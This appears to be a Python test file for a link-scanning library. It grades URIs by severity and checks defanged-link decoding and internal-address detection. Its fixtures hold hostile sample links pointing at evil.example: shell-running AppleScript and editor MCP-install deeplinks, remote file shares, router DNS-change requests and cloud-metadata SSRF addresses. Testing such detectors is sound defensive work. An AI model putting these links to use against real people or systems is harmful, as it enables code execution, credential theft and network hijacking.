"""Severity of links that start an action in an app, or that lead to an internal address."""

from tests.for_each import for_each
from uriinspector import inspect

HIGH, MEDIUM, LOW, CALM = "high", "medium", "low", None


@for_each(
    "severity, links",
    (
        HIGH,
        (
            "applescript://com.apple.scripteditor?action=new&script=beep",
            "APPLESCRIPT://com.apple.scripteditor?action=new&script=do%20shell%20script",
            "applescript:tell%20app%20%22Finder%22%20to%20quit",
            "jnlps://evil.example/x.jnlp",
            "jnlp://evil.example/x.jnlp",
            "tel:*21*0123456789%23",
            r"ms-photos:viewer?fileName=\\evil.example\share\x.jpg",
            "ms-photos:viewer?fileName=%5C%5Cevil.example%5Cshare%5Cx.png",
            r"ms-word:ofe|u|\\evil.example\x.docx",
            "ms-word:ofe|u|https://185.22.14.9/doc.docx",
            "ms-excel:ofe|u|https://files.example/list.xlsm",
            "vscode:mcp/install?%7B%22command%22%3A%22cmd%22%2C%22args%22%3A%5B%22%2Fc%22%2C%22calc%22%5D%7D",
            "cursor://anysphere.cursor-deeplink/mcp/install?name=a&config=eyJjb21tYW5kIjoiYmFzaCJ9",
            "itms-services://?action=download-manifest&url=https://evil.example/app.plist",
            r"search-ms:query=x&crumb=location:\\evil.example\share",
            "http://192.168.0.1/apply.cgi?dns=203.0.113.7",
            "http://192.168.1.1/goform/AdvSetDns?DS1=203.0.113.7",
            r"\\wsl$.evil.example\share", r"\\wsl.localhost.evil.example\share",
        ),
    ),
    (
        MEDIUM,
        (
            "ethereum:0x89205A3A3b2A69De6Dbf7f01ED13B2108B2c43e7/approve?address=0x1&uint256=9",
            "ethereum:0x89205A3A3b2A69De6Dbf7f01ED13B2108B2c43e7@1/increaseAllowance?address=0x1",
            "ethereum:pay-0x89205A3A3b2A69De6Dbf7f01ED13B2108B2c43e7/setApprovalForAll?bool=true",
            "shortcuts://run-shortcut?name=a",
            "shortcuts://import-shortcut?url=https://evil.example/a.shortcut",
            "shortcuts://x-callback-url/run-shortcut?name=a",
            "vscode:mcp/install?%7B%22name%22%3A%22x%22%7D",
            "vscode-insiders:mcp/install?%7B%22name%22%3A%22x%22%7D",
            "cursor://anysphere.cursor-deeplink/mcp/install?name=a&config=e30",
            "windsurf://mcp/install?name=x",
            "vscode:mcp/install?%7B%22command%22%3A%22npx%22%2C%22args%22%3A%5B%22a%22%5D%7D",
            "vscode:mcp/install?%7B%22name%22%3A%22a%22%2C%22url%22%3A%22https%3A%2F%2Fmcp.example%2F%22%7D",
            "ms-word:ofe|u|https://files.example/list.docx",
            "http://192.168.1.1/goform/setSysAdm?admuser=a",
            "anydesk:123456789", "teamviewer10://control?device=1", "https://bit.ly/paypal-verify",
            "lmstudio://add_mcp?name=a&config=e30",
            "goose://extension?cmd=npx&arg=x&name=a",
        ),
    ),
    (
        LOW,
        (
            "https://evil.example/x.rdp", "https://evil.example/downloads/work.RDP",
            "tel:+19005551234", "sms:+19005551234?body=x", "tel:+4490098765432",
            "tel:+491371234567", "tel:+41-900-123-456", "tel:+46%209441234",
            "ms-settings:windowsdefender", "ms-gamingoverlay:", "ms-settings:network-proxy",
            "foobarx:hello", "webcals://calendar.example/a.ics", "market://details?id=a.b",
            "ethereum:0x89205A3A3b2A69De6Dbf7f01ED13B2108B2c43e7?value=1e18",
            "bitcoin:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa?amount=0.5", "bitcoin:1a",
            "https://bit.ly/a1B2c3", "https://tinyurl.com/netflix-trailer",
        ),
    ),
    (
        CALM,
        (
            "tel:+14155550100", "tel:+49301234567", "vscode://file/c:/x", "cursor://file/x",
            "coap+tcp://x/", "matrix:r/x:y.example",
            "webcal:", "market:", "https://router.oak-tables.de/apply.cgi?dns=1", "file://wsl$/Ubuntu/home",
        ),
    ),
)  # fmt: skip
def test_severity_of_a_link_depends_on_the_action_it_starts(
    severity: str | None, links: tuple[str, ...]
) -> None:
    found = {link: inspect(link).verdict.severity for link in links}
    assert {link for link, each in found.items() if each != severity} == set()


@for_each("name", "next", "url", "redirect", "dest", "u", "image", "continue")
@for_each(
    "severity, address",
    (MEDIUM, "169.254.169.254/latest/"), (MEDIUM, "169.254.0.23/latest/meta-data"),
    (MEDIUM, "metadata.goog/computeMetadata/v1/"), (MEDIUM, "metadata.tencentyun.com/latest/"),
    (MEDIUM, "metadata.exoscale.com/latest/"), (HIGH, "0x7f.1/admin"),
)  # fmt: skip
def test_internal_address_in_a_parameter_is_reported_once_with_its_severity(
    name: str, severity: str, address: str
) -> None:
    found = inspect(f"https://shop.example/?{name}=http://{address}")
    loud = [each.code for each in found.findings if each.severity == severity]
    assert found.verdict.severity == severity
    assert len(loud) == 1


@for_each(
    "text, meant",
    ("http[s]://x[.]example", "https://x.example"), ("hxxp:/x.example", "http://x.example"),
    ("hxxps:/x.example/a", "https://x.example/a"), (r"hXXps:\x.example", "https://x.example"),
    (r"hxxps:\\x.example/a", "https://x.example/a"),
    ("http[s]://x[.]example/login", "https://x.example/login"),
    ("hxxp[s]:/x(.)example", "https://x.example"),
    ("\u00a0https://x.example/", "https://x.example/"),
    ("\u00a0\u00a0hxxps://x[.]example/", "https://x.example/"),
)  # fmt: skip
def test_defanged_link_has_the_original_meaning(text: str, meant: str) -> None:
    assert inspect(text).meant.text.strip() == meant


@for_each("address", "999.1.1.1", "256.256.256.256", "300.1.2.3", "1.2.3.999", "1.2.3.256")
def test_invalid_address_is_medium_with_and_without_a_scheme(address: str) -> None:
    bare, whole = inspect(address), inspect(f"http://{address}")
    assert bare.verdict.severity == whole.verdict.severity == MEDIUM
